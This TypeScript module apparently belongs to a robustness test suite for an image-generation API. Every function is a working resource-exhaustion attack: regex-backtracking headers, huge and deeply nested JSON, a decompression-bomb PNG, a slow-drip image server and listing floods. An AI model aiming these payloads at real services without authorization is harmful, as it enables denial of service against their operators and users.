import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { deflateSync } from 'node:zlib'
import { type Attack, count, endsAfter, many, type Outcomes, type Target } from './target.ts'

const DRAW = '/run/fal-ai/fast-lcm-diffusion'
const REDRAW = '/run/fal-ai/fast-lcm-diffusion/image-to-image'
const SMALLEST = { image_size: { width: 64, height: 64 }, num_inference_steps: 1, enable_safety_checker: false }

/** Sends a body. */
function send(
  target: Target,
  path: string,
  body: string | undefined,
  outcomes: Outcomes,
  signal: AbortSignal,
): Promise<void> {
  return ask(target, path, body === undefined ? {} : { method: 'POST', body }, outcomes, signal)
}

/** Counts the status of an answer, which is read to the end. */
async function ask(
  { url, authorization }: Target,
  path: string,
  request: { readonly method?: string; readonly body?: string; readonly headers?: Readonly<Record<string, string>> },
  outcomes: Outcomes,
  signal: AbortSignal,
): Promise<void> {
  try {
    const headers = { authorization, 'content-type': 'application/json', ...request.headers }
    const response = await fetch(`${url}${path}`, { ...request, headers, signal })
    await response.arrayBuffer()
    count(outcomes, String(response.status))
  } catch {
    count(outcomes, signal.aborted ? 'left' : 'no answer')
  }
}

/** Headers of as many blanks as a server takes, paths of slashes and file names of dashes: patterns may read them again from every character. */
export const hugeHeaders: Attack = async (target, { hugeFields: times }, signal) => {
  const outcomes: Outcomes = {}
  const blanks = `a${' '.repeat(15_000)}b`
  const initiation = { content_type: 'image/png', file_name: `a${'-'.repeat(60_000)}b` }
  const requests: readonly (readonly [path: string, request: Parameters<typeof ask>[2]])[] = [
    [DRAW, { method: 'OPTIONS', headers: { 'access-control-request-headers': blanks } }],
    [DRAW, { method: 'POST', body: '{}', headers: { authorization: `Key ${blanks}:c` } }],
    [DRAW, { method: 'POST', body: '{}', headers: { forwarded: `host=${blanks}"c` } }],
    [`/run/a${'/'.repeat(15_000)}b`, { method: 'POST', body: '{}' }],
    ['/rest/storage/upload/initiate', { method: 'POST', body: JSON.stringify(initiation) }],
  ]
  await many(times, 4, signal, async (i) => {
    const [path, request] = requests[i % requests.length] ?? [DRAW, {}]
    await ask(target, path, request, outcomes, signal)
  })
  return outcomes
}

/** Long prompts, and as long ones in fields that nobody knows. */
export const hugeFields: Attack = async (target, { hugeFields: times, hugeBytes }, signal) => {
  const outcomes: Outcomes = {}
  const text = 'a '.repeat(hugeBytes / 2)
  const bodies = [
    { prompt: text, ...SMALLEST },
    { prompt: 'a', negative_prompt: text, ...SMALLEST },
    { prompt: 'a', comment: text, ...SMALLEST },
  ].map((body) => JSON.stringify(body))
  await many(times, 4, signal, (i) => send(target, DRAW, bodies[i % bodies.length], outcomes, signal))
  return outcomes
}

/** A million unknown keys, long lists of everything, depth. */
export const hugeLists: Attack = async (target, { hugeFields: times, hugeBytes }, signal) => {
  const outcomes: Outcomes = {}
  const amount = hugeBytes / 8
  const keys = Array.from({ length: amount }, (_, i) => `"k${i}":1`).join(',')
  const lora = { model_name: 'a/b', prompt: 'a' }
  const bodies: readonly (readonly [path: string, body: string])[] = [
    [DRAW, `{"prompt":"a",${keys}}`],
    [DRAW, `{"prompt":"a","x":${'['.repeat(amount)}`],
    [DRAW, `{"prompt":"a","x":${'{"x":'.repeat(900)}1${'}'.repeat(900)},"num_inference_steps":0}`],
    ['/run/fal-ai/lora', JSON.stringify({ ...lora, loras: new Array(5_000).fill({ path: 'a/b' }) })],
    ['/run/fal-ai/lora', JSON.stringify({ ...lora, timesteps: { method: 'array', array: new Array(40_000).fill(1) } })],
    [
      '/run/fal-ai/lora',
      JSON.stringify({ ...lora, controlnets: new Array(5_000).fill({ path: 'a/b', image_url: 'x' }) }),
    ],
    [
      '/run/fal-ai/lora',
      JSON.stringify({ ...lora, embeddings: [{ path: 'a/b', tokens: new Array(40_000).fill('t') }] }),
    ],
  ]
  await many(times, 4, signal, async (i) => {
    const [path, body] = bodies[i % bodies.length] ?? [DRAW, '{}']
    await send(target, path, body, outcomes, signal)
  })
  return outcomes
}

/** A PNG of few bytes and many pixels. */
function plainPng(side: number): string {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
    const whole = Buffer.alloc(body.length + 8)
    whole.writeUInt32BE(data.length, 0)
    body.copy(whole, 4)
    whole.writeUInt32BE(crc32(body), body.length + 4)
    return whole
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  // Eight bits of grey.
  header[8] = 8
  const pixels = deflateSync(Buffer.alloc((side + 1) * side))
  const file = [
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]
  return `data:image/png;base64,${Buffer.concat(file).toString('base64')}`
}

/** PNG's checksum, https://www.w3.org/TR/png/#D-CRCAppendix */
function crc32(bytes: Uint8Array): number {
  let crc = 0xffffffff
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  return (crc ^ 0xffffffff) >>> 0
}

/** Pictures as large as they may be. */
export const hugePictures: Attack = async (target, { hugeFields: times, pictureSide }, signal) => {
  const outcomes: Outcomes = {}
  const body = JSON.stringify({ prompt: 'a', image_url: plainPng(pictureSide), ...SMALLEST, strength: 1 })
  await many(Math.ceil(times / 4), 2, signal, () => send(target, REDRAW, body, outcomes, signal))
  return outcomes
}

/** Pictures from a server that sends one byte a second; half of the clients leave after a second. */
export const slowUrls: Attack = async (target, { slowUrls: times, seconds }, signal) => {
  const outcomes: Outcomes = {}
  const server = createServer((_, response) => {
    response.writeHead(200, { 'content-type': 'image/png' }).flushHeaders()
    const timer = setInterval(() => response.write('x'), 1000)
    response.once('close', () => clearInterval(timer))
  })
  // An address of its own, as another host has.
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve))
  const image = `http://127.0.0.2:${(server.address() as AddressInfo).port}/a.png`
  const body = JSON.stringify({ prompt: 'a', image_url: image, ...SMALLEST, strength: 1 })
  const stay = endsAfter(seconds, signal)
  await many(times, times, signal, async (i) => {
    const leave = i % 2 === 0 ? stay : endsAfter(1, stay)
    await send(target, i % 4 === 3 ? REDRAW.replace('/run', '/queue') : REDRAW, body, outcomes, leave)
  })
  await sleep(Math.max(0, seconds * 1000 - 1000), undefined, { signal }).catch(() => {})
  server.closeAllConnections()
  server.close()
  return outcomes
}

/** Runs whose inputs are stored, and then the listing of all of them, twelve times at once. */
export const hugeListings: Attack = async (target, { stored, storedBytes }, signal) => {
  const outcomes: Outcomes = {}
  const body = JSON.stringify({ prompt: 'a', comment: 'x'.repeat(storedBytes), ...SMALLEST })
  await many(stored, 4, signal, () => send(target, DRAW, body, outcomes, signal))
  const path = '/v1/models/requests/by-endpoint?endpoint_id=fal-ai/fast-lcm-diffusion&limit=100&expand=payloads'
  await many(24, 12, signal, () => send(target, path, undefined, outcomes, signal))
  return outcomes
}
